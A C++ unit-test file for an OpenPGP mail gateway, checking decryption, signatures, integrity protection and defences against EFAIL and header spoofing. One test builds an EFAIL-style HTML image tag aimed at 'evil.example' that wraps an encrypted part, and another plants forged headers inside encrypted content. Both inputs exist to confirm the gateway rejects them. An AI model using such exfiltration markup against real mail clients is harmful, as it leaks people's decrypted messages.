#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/crypt/openpgp_post.h"

namespace siegel::tests {
namespace {

using pki::Provenance;
using policy::Form;
using policy::Scheme;
using policy::Status;
using policy::Summary;
using testing::HasSubstr;
using testing::Not;
using testing::SizeIs;

const std::string bauamt_address = "bauamt@stadt.example";

/// A gateway that holds bauamt's key and knows anna's; anna knows bauamt's.
class OpenPgpEncryption : public testing::Test {
 protected:
  OpenPgpEncryption() {
    desk.keys.know(anna_address, annas_home().exported(anna_id), Provenance::admin);
    home.import(*desk.keys.signer(*Address::parse(bauamt_address), now()));
  }

  /// Armoured, by `home`, to bauamt.
  std::string sealed(const std::string& entity, std::vector<std::string> words = {}) const {
    words.insert(words.end(), {"--armor", "--recipient", bauamt_address, "--encrypt"});
    return home.make(std::move(words), entity);
  }
  std::string encrypted(const std::string& entity, std::vector<std::string> words = {}) const {
    return pgp_mime_encrypted(sealed(entity, std::move(words)));
  }
  std::string opened(const std::string& text) const {
    const auto seen = desk.sees(text);
    return seen.opened ? std::string(seen.opened->octets()) : "";
  }

  OpenPgpDesk desk;
  GpgHome home;
};

TEST_F(OpenPgpEncryption, MailToAKeyOfOursIsOpened) {
  const auto seen = desk.sees(letter(encrypted(us_text)));
  EXPECT_TRUE(seen.verdict.encrypted && seen.verdict.decrypted) << remarks(seen.verdict);
  EXPECT_EQ(seen.verdict.summary(), Summary::none);
  ASSERT_TRUE(seen.opened);
  EXPECT_EQ(seen.opened->octets(), letter(us_text));
  EXPECT_EQ(seen.verdict.layers.at(0).algorithm, "AES256");
}

TEST_F(OpenPgpEncryption, OneKeyOfOursOpensMailForAllOfTheDomain) {
  std::string text = letter(encrypted(us_text));
  text.replace(text.find("To: bauamt@"), 11, "To: standesamt@");
  EXPECT_TRUE(desk.sees(text).verdict.decrypted);
}

TEST_F(OpenPgpEncryption, MailToAnotherKeyStaysClosed) {
  home.new_key(mallory_id);
  const std::string armoured =
      home.make({"--armor", "--recipient", mallory_id, "--encrypt"}, us_text);
  const auto seen = desk.sees(letter(pgp_mime_encrypted(armoured)));
  EXPECT_TRUE(seen.verdict.encrypted);
  EXPECT_EQ(seen.verdict.layers.at(0).status, Status::no_key);
  EXPECT_FALSE(seen.opened);
}

TEST_F(OpenPgpEncryption, WithoutTheSectionItStaysClosed) {
  const auto seen = Desk().sees(letter(encrypted(us_text)));
  EXPECT_EQ(seen.verdict.layers.at(0).status, Status::no_key);
  EXPECT_FALSE(seen.opened);
}

TEST_F(OpenPgpEncryption, ARecipientThatIsNotNamedIsFound) {
  EXPECT_EQ(opened(letter(encrypted(us_text, {"--throw-keyids"}))), letter(us_text));
}

// --- signed and encrypted

TEST_F(OpenPgpEncryption, ASignedEntityInsideIsGood) {
  const auto verdict = desk.verdict(letter(encrypted(signed_by_anna())));
  EXPECT_EQ(verdict.summary(), Summary::good) << remarks(verdict);
  ASSERT_THAT(verdict.layers, SizeIs(2));
  EXPECT_EQ(verdict.layers[0].form, Form::encryption);
  EXPECT_EQ(verdict.layers[1].form, Form::signature);
}

class OpenPgpCombined : public OpenPgpEncryption {
 protected:
  /// RFC 3156 §6.2: signed and encrypted in one.
  std::string combined(const std::string& signer) const {
    const auto bauamt = *desk.keys.signer(*Address::parse(bauamt_address), now());
    annas_home().import(bauamt);
    return pgp_mime_encrypted(annas_home().make({"--armor", "--local-user", signer, "--recipient",
                                                 bauamt.fingerprint(), "--sign", "--encrypt"},
                                                us_text));
  }
};

TEST_F(OpenPgpCombined, SignatureWithinTheEncryptionIsGoodAndCoversAll) {
  const auto verdict = desk.verdict(letter(combined(anna_id)));
  EXPECT_EQ(verdict.summary(), Summary::good) << remarks(verdict);
  EXPECT_TRUE(verdict.covers_all && verdict.decrypted && verdict.signer_is_author);
  ASSERT_THAT(verdict.layers, SizeIs(2));
  EXPECT_EQ(verdict.layers[1].signer->str(), anna_address);
}

TEST_F(OpenPgpCombined, R16_SignatureOfSomebodyElseWithinIsAMismatch) {
  desk.keys.know(anna_address, annas_home().exported(mallory_id), Provenance::admin);
  EXPECT_EQ(desk.summary(letter(combined(mallory_id))), "mismatch");
}

TEST_F(OpenPgpCombined, OfAnUnknownKeyIsOpenedAndUntrusted) {
  const auto verdict = desk.verdict(letter(combined(mallory_id)));
  EXPECT_EQ(verdict.summary(), Summary::untrusted);
  EXPECT_TRUE(verdict.decrypted);
}

TEST_F(OpenPgpEncryption, SignatureAroundAnEncryptionCoversTheSealOnly) {
  EXPECT_EQ(desk.summary(letter(signed_by_anna(encrypted(us_text)))), "partial");
}

// --- EFAIL

TEST_F(OpenPgpEncryption, R01_EncryptedPartDeeperInTheTreeIsNeverDecrypted) {
  const std::string html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
  const auto seen =
      desk.sees(letter(mixed({html, encrypted(us_text), "Content-Type: text/html\r\n\r\n\">"})));
  EXPECT_EQ(desk.keys.secrets_asked(), 0);
  EXPECT_FALSE(seen.opened);
  EXPECT_THAT(remarks(seen.verdict), HasSubstr("left closed"));
}

TEST_F(OpenPgpEncryption, R01_EncryptedTextInlineIsNeverDecrypted) {
  const auto seen = desk.sees(letter("Content-Type: text/plain\r\n\r\n" + sealed(us_text)));
  EXPECT_EQ(desk.keys.secrets_asked(), 0);
  EXPECT_FALSE(seen.verdict.encrypted);
  EXPECT_THAT(remarks(seen.verdict), HasSubstr("encrypted inline by OpenPGP"));
}

TEST_F(OpenPgpEncryption, R01_OnlyOneEncryptionOfAMessageIsOpened) {
  const auto seen = desk.sees(letter(encrypted(encrypted(us_text))));
  EXPECT_FALSE(seen.verdict.decrypted);
  EXPECT_FALSE(seen.opened);
}

TEST_F(OpenPgpEncryption, OneOfEachSchemeIsOpened) {
  const Party bauamt = present().person(bauamt_address, pki::KeyType::rsa_3072);
  desk.desk.keys.hold(bauamt);
  EXPECT_EQ(opened(letter(encrypted_to(bauamt, encrypted(us_text)))), letter(us_text));
}

TEST_F(OpenPgpEncryption, R05_WithoutIntegrityProtectionNothingIsDelivered) {
  // RFC 2440 knew no such protection; this is how gpg writes a message without it.
  const auto seen = desk.sees(letter(encrypted(us_text, {"--rfc2440", "--cipher-algo", "AES256"})));
  EXPECT_EQ(seen.verdict.layers.at(0).status, Status::bad) << remarks(seen.verdict);
  EXPECT_FALSE(seen.verdict.decrypted);
  EXPECT_FALSE(seen.opened);
}

TEST_F(OpenPgpEncryption, R05_AlteredOctetsAreAFailureAndNothingIsDelivered) {
  std::string binary = home.make({"--recipient", bauamt_address, "--encrypt"}, us_text);
  binary[binary.size() - 30] = static_cast<char>(binary[binary.size() - 30] ^ 1);
  std::string message = home.make({"--enarmor"}, binary);
  const std::string word = "PGP ARMORED FILE";
  for (auto at = message.find(word); at != std::string::npos; at = message.find(word))
    message.replace(at, word.size(), "PGP MESSAGE");
  const auto seen = desk.sees(letter(pgp_mime_encrypted(message)));
  EXPECT_EQ(seen.verdict.layers.at(0).status, Status::bad);
  EXPECT_FALSE(seen.opened);
  EXPECT_FALSE(seen.verdict.decrypted);
}

TEST_F(OpenPgpEncryption, R04_AllFailuresLookAlike) {
  const auto senseless = desk.verdict(letter(encrypted("no fields at all\r\n")));
  std::string cut = sealed(us_text);
  cut.erase(cut.find("-----END") - 40, 20);
  const auto damaged = desk.verdict(letter(pgp_mime_encrypted(cut)));
  EXPECT_EQ(senseless.layers.at(0).status, Status::bad);
  EXPECT_THAT(remarks(senseless), HasSubstr("damaged or altered"));
  EXPECT_FALSE(damaged.decrypted);
}

TEST_F(OpenPgpEncryption, R48_APlaintextOverTheLimitIsAFailure) {
  const auto seen = desk.sees(letter(encrypted(us_text + std::string(std::size_t{2} << 20U, 'a'))));
  EXPECT_FALSE(seen.opened);
  EXPECT_EQ(seen.verdict.layers.at(0).status, Status::bad);
}

TEST_F(OpenPgpEncryption, WhatIsOnlySignedOrStoredIsNoEncryption) {
  const std::string stored = home.make({"--armor", "--store"}, us_text);
  const std::string by_anna =
      annas_home().make({"--armor", "--local-user", anna_id, "--sign"}, us_text);
  for (const std::string& armoured : {stored, by_anna}) {
    const auto seen = desk.sees(letter(pgp_mime_encrypted(armoured)));
    EXPECT_FALSE(seen.opened) << remarks(seen.verdict);
    EXPECT_FALSE(seen.verdict.decrypted);
  }
}

TEST_F(OpenPgpEncryption, B0_FieldsFromInsideDoNotGetOut) {
  const std::string entity =
      "From: boss@stadt.example\r\nX-Siegel-Verdict: good\r\nSubject: Anderes\r\n" + us_text;
  EXPECT_EQ(opened(letter(encrypted(entity))), letter(us_text));
}

}  // namespace
}  // namespace siegel::tests
